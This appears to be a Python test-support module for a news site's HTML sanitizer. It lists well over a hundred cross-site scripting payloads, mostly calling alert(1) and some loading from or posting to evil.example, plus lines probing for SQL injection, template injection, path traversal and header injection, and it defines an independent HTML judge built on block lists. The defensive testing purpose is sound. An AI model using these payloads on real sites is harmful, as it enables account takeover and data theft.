"""What an attacker would send, and a judge of HTML that shares no code with news.html.

Every body tries to run alert(1), to reach another host, or to take a page's parts over.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser
from urllib.parse import unquote, urlsplit

BODIES: dict[str, str] = {
    # Plain script, and ways to spell it.
    "script": "<p>Tin</p><script>alert(1)</script>",
    "script in capitals": "<ScRiPt>alert(1)</sCrIpT>",
    "script from outside": '<script src="https://evil.example/x.js"></script>',
    "script with slash": "<script/x>alert(1)</script/x>",
    "script without end": "<p>Tin<script>alert(1)",
    "script in a script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script with NUL": "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "script in a table": "<table><tr><td><script>alert(1)</script></table>",
    "script after a quote": '<p title="</p><script>alert(1)</script>">Tin</p>"',
    "extra brackets": "<<script>alert(1);//<</script>",
    "module script": '<script type="module">import "//evil.example/x.js"</script>',
    # Handlers.
    "image error": "<img src=x onerror=alert(1)>",
    "image of ours with a handler": '<img src="/media/a.jpg" onload="alert(1)">',
    "handler without spaces": '<img/src="x"/onerror=alert(1)>',
    "handler in capitals": '<IMG SRC=x OnErRoR="alert(1)">',
    "handler after a line break": "<img src=x\nonerror\n=\nalert(1)>",
    "handler after form feed": "<img\x0csrc=x\x0conerror=alert(1)>",
    "handler in a paragraph": '<p onclick="alert(1)" onmouseover=alert(1)>Tin</p>',
    "handler on focus": '<a href="/x" onfocus=alert(1) autofocus tabindex=1>x</a>',
    "handler on an animation": "<p style='animation:x' onanimationend=alert(1)>x</p>",
    "handler on toggle": "<details open ontoggle=alert(1)>x</details>",
    "handler of a body": "<body onload=alert(1)><p>x",
    "handler of an unknown tag": "<tin onpointerenter=alert(1)>x</tin>",
    "handler with a back quote": "<img src=`x`onerror=alert(1)>",
    "handler after a broken quote": '<img """><script>alert(1)</script>">',
    "video source": "<video><source onerror=alert(1)></video>",
    "audio": "<audio src=x onerror=alert(1)></audio>",
    "marquee": "<marquee onstart=alert(1)>x</marquee>",
    # Addresses.
    "javascript link": '<a href="javascript:alert(1)">x</a>',
    "javascript in capitals": '<a href="JaVaScRiPt:alert(1)">x</a>',
    "javascript after spaces": '<a href=" \t\njavascript:alert(1)">x</a>',
    "javascript with a line break": '<a href="java&#x0A;script:alert(1)">x</a>',
    "javascript with a tab": '<a href="jav&Tab;ascript&colon;alert(1)">x</a>',
    "javascript after control": '<a href="&#1;javascript:alert(1)">x</a>',
    "javascript in numbers": (
        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;'
        'alert(1)">x</a>'
    ),
    "javascript without semicolons": (
        '<a href="&#0000106avascript&#0000058alert(1)">x</a>'
    ),
    "javascript as an image": '<img src="javascript:alert(1)">',
    "vbscript link": '<a href="vbscript:msgbox(1)">x</a>',
    "data link": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "data link in base64": (
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'
    ),
    "data image": '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    "blob link": '<a href="blob:https://evil.example/1">x</a>',
    "link without scheme": '<a href="//evil.example/">x</a>',
    "link with back slash": '<a href="/\\evil.example/">x</a>',
    "link with a tab": '<a href="/\t/evil.example/">x</a>',
    "link with a name before the host": '<a href="https://dms.gov.vn@evil.example">x</a>',
    "image from outside": '<img src="https://evil.example/x.gif" width=1 height=1>',
    "image without scheme": "<img src=//evil.example/x.gif>",
    "image out of the folder": '<img src="/media/../quan-tri/logout/">',
    "image out of it, encoded": '<img src="/media/%2e%2e/quan-tri/logout/">',
    "image set": '<img src="/media/a.jpg" srcset="//evil.example/x.gif 1x">',
    "lazy image": '<img data-src="//evil.example/x" src="//evil.example/y">',
    "background": '<table background="javascript:alert(1)"><tr><td>x</table>',
    "ping": '<a href="/x" ping="https://evil.example/">x</a>',
    # Frames and objects.
    "frame": '<iframe src="https://evil.example/"></iframe>',
    "frame with a document": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "frame that looks like video": (
        '<iframe src="https://www.youtube.com@evil.example/embed/x"></iframe>'
    ),
    "frame of a similar host": (
        '<iframe src="https://www.youtube.com.evil.example/embed/x"></iframe>'
    ),
    "frame with script": '<iframe src="javascript:alert(1)"></iframe>',
    "frame as text": "<iframe><img src=x onerror=alert(1)></iframe>",
    "object": '<object data="javascript:alert(1)"></object>',
    "embed": '<embed src="data:text/html,<script>alert(1)</script>">',
    "applet": "<applet code=x onerror=alert(1)></applet>",
    "frameset": '<frameset><frame src="javascript:alert(1)"></frameset>',
    # Style.
    "style element": "<style>body{background:url(//evil.example/x)}</style>",
    "style with expression": '<p style="width:expression(alert(1))">x</p>',
    "alignment with expression": '<p style="text-align:expression(alert(1))">x</p>',
    "style over the page": '<p style="position:fixed;inset:0;z-index:9">x</p>',
    "style with an address": "<p style=\"background:url('//evil.example')\">x</p>",
    "style sheet": '<link rel=stylesheet href="//evil.example/x.css">',
    "style that ends early": "<style><style /><img src=x onerror=alert(1)>",
    # The page as a whole.
    "refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "base": '<base href="https://evil.example/">',
    "form": '<form action="https://evil.example/"><input name=password></form>',
    "button with an action": "<button formaction=javascript:alert(1)>x</button>",
    "text field": "<textarea autofocus onfocus=alert(1)>x</textarea>",
    "clobbered names": '<img src="/media/a.jpg" name="getElementById" id="body">',
    "clobbered form": "<form id=x><input id=attributes name=parentNode></form>",
    "dialog": "<dialog open><p onclick=alert(1)>x</dialog>",
    # Parsers that disagree (mXSS).
    "svg": "<svg onload=alert(1)><circle r=9 /></svg>",
    "svg with script": "<svg><script>alert&#40;1)</script></svg>",
    "svg link": '<svg><a xlink:href="javascript:alert(1)"><text y=9>x</text></a></svg>',
    "svg that animates": (
        "<svg><a><animate attributeName=href values=javascript:alert(1) /></a></svg>"
    ),
    "svg that uses": '<svg><use href="data:image/svg+xml,<svg id=x>#x"></use></svg>',
    "svg with style": "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
    "svg with foreign object": (
        "<svg><foreignObject><iframe srcdoc='x'></iframe></foreignObject></svg>"
    ),
    "math": (
        "<math><mtext><table><mglyph><style><!--</style>"
        '<img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">'
    ),
    "math in a form": (
        "<form><math><mtext></form><form><mglyph><style></math>"
        "<img src onerror=alert(1)>"
    ),
    "math link": '<math href="javascript:alert(1)"><mi>x</mi></math>',
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "template": "<template><script>alert(1)</script></template>",
    "title": "<title><p title='</title><img src=x onerror=alert(1)>'>",
    "xmp": "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "noembed": "<noembed><img title='</noembed><img src=x onerror=alert(1)>'>",
    "text field that ends": "<textarea></textarea><img src=x onerror=alert(1)>",
    "plain text": "<plaintext><script>alert(1)</script>",
    "select": "<select><option><style></option></select><svg onload=alert(1)></style>",
    "nested links": "<a href=/x><table><a href=javascript:alert(1)>x</table></a>",
    "CDATA": "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "CDATA in svg": "<svg><![CDATA[><img src=x onerror=alert(1)>]]>",
    "comment": "<!--><img src=x onerror=alert(1)>-->",
    "comment with a bang": "<!-- --!><img src=x onerror=alert(1)> -->",
    "conditional comment": "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "revealed comment": "<![if true]><img src=x onerror=alert(1)><![endif]>",
    "processing instruction": "<?xml version='1.0'?><?import x><p onclick=alert(1)>x",
    "doctype": '<!DOCTYPE x [<!ENTITY a "b">]><p onclick="alert(1)">x</p>',
    # What an editor may leave.
    "protected source": (
        "<p>x<!--{cke_protected}%3Cscript%3Ealert(1)%3C%2Fscript%3E--></p>"
    ),
    "protected attribute": (
        '<a data-cke-saved-href="javascript:alert(1)" href="javascript:alert(1)">x</a>'
    ),
    "protected handler": "<img src=x data-cke-pa-onerror=alert(1) onerror=alert(1)>",
    "real element": '<img data-cke-realelement="%3Ciframe%3E" src="//evil.example/x">',
    "widget": (
        '<figure class="image" data-cke-widget-data="%7B%7D" onclick="alert(1)">'
        '<img src="/media/a.jpg" alt="x"><figcaption><svg onload=alert(1)>x'
        "</figcaption></figure>"
    ),
    "Word": (
        '<p class=MsoNormal style="mso-x:expression(alert(1))"><o:p onclick=alert(1)>'
        "x</o:p><xml><o:x>alert(1)</o:x></xml></p>"
    ),
    # Size and form.
    "deep": "<b>" * 60 + "<img src=x onerror=alert(1)>" + "</b>" * 60,
    "many handlers": "<p " + " ".join(f"onx{n}=alert(1)" for n in range(300)) + ">x",
    "half a surrogate": "<p \ud800onclick=alert(1)>x\udfff</p>",
    "direction marks": '<a href="\u202ejavascript:alert(1)" onclick=alert(1)>x</a>',
    "wide brackets": "＜script＞alert(1)＜/script＞<p onclick=alert(1)>x</p>",
    "UTF-7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
}

LINES: list[str] = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)',
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<!--<script>",
    "-->]]><svg onload=alert(1)>",
    "{{ 7*7 }}{{ settings.SECRET_KEY }}",
    "{% debug %}{% load static %}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "javascript:alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt; &amp;quot; &#60;b&#62;",
    "\u202eexe.ảnh\u202c Tin",
    "Tin\u200b không\u200d thấy\ufeff",
    "Đảng\u0000 bộ\u0007\u001b[31m",
    "Dòng một\r\nSet-Cookie: a=b\u2028Dòng hai",
    '=HYPERLINK("https://evil.example","Tin")',
    '\\"; alert(1); //\\u003cscript\\u003e',
    "'; DROP TABLE news_edition; --",
    "../../etc/passwd",
    "%s %d {0} {name} %(name)s",
    "Tin" + "\u0301" * 80,
]

# The judge.

ELEMENTS = re.compile(
    "script|style|iframe|object|embed|applet|svg|math|base|meta|link|form|input|button"
    "|select|option|textarea|template|noscript|frame|frameset|video|audio|source|track"
    "|canvas|marquee|title|xmp|plaintext|noembed|noframes|dialog|details|portal|html"
    "|head|body|animate|use|image|foreignobject|mglyph|mtext|xml|.*[^a-z0-9].*"
)
ATTRIBUTES = re.compile(
    "on.*|data.*|style|id|name|srcdoc|srcset|formaction|action|background|ping|is|slot"
    "|http-equiv|autofocus|tabindex|contenteditable|poster|xlink:href|dynsrc|lowsrc"
)
ADDRESSES = {"href", "src", "cite", "longdesc", "usemap"}
INVISIBLE = re.compile(
    "[\x00-\x20\x7f-\xa0\xad\u200b-\u200f\u2028-\u202e\u2060\ufeff]+"
)


class _Judge(HTMLParser):
    """Reads like a hurried browser: raw text and comments are looked into as well."""

    CDATA_CONTENT_ELEMENTS = ()

    def __init__(self, media_prefix: str) -> None:
        super().__init__(convert_charrefs=True)
        self.media_prefix = media_prefix
        self.reasons: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if ELEMENTS.fullmatch(tag):
            self.reasons.append(f"<{tag}>")
        for name, value in attrs:
            if ATTRIBUTES.fullmatch(name):
                self.reasons.append(f"<{tag} {name}>")
            if name in ADDRESSES:
                self._address(tag, name, value or "")
        values = dict(attrs)
        is_open = "noopener" not in (values.get("rel") or "")
        if values.get("target") and is_open and "://" in (values.get("href") or ""):
            self.reasons.append(f"<{tag} target> without noopener")

    def _address(self, tag: str, name: str, value: str) -> None:
        shown = f"<{tag} {name}={value[:60]!r}>"
        address = INVISIBLE.sub("", value).replace("\\", "/").lower()
        scheme = re.match("[a-z][a-z0-9+.-]*:", address)
        is_odd = scheme and scheme[0] not in {"http:", "https:", "mailto:", "tel:"}
        is_masked = address.startswith("//") or "@" in urlsplit(address).netloc
        if is_odd or is_masked:
            self.reasons.append(shown)
        if name == "src" and not address.startswith(self.media_prefix):
            self.reasons.append(f"{shown} is not ours")
        if name == "src" and ".." in unquote(unquote(address)):
            self.reasons.append(f"{shown} leaves its folder")

    def handle_comment(self, data: str) -> None:
        self.reasons.append("comment")

    def handle_decl(self, decl: str) -> None:
        self.reasons.append("declaration")

    def unknown_decl(self, data: str) -> None:
        self.reasons.append("declaration")

    def handle_pi(self, data: str) -> None:
        self.reasons.append("processing instruction")


def is_harmless(html: str, *, media_prefix: str = "/media/") -> list[str]:
    """The reasons why this piece of HTML is dangerous; none when it is harmless."""
    judge = _Judge(media_prefix)
    judge.feed(html)
    judge.close()
    return judge.reasons
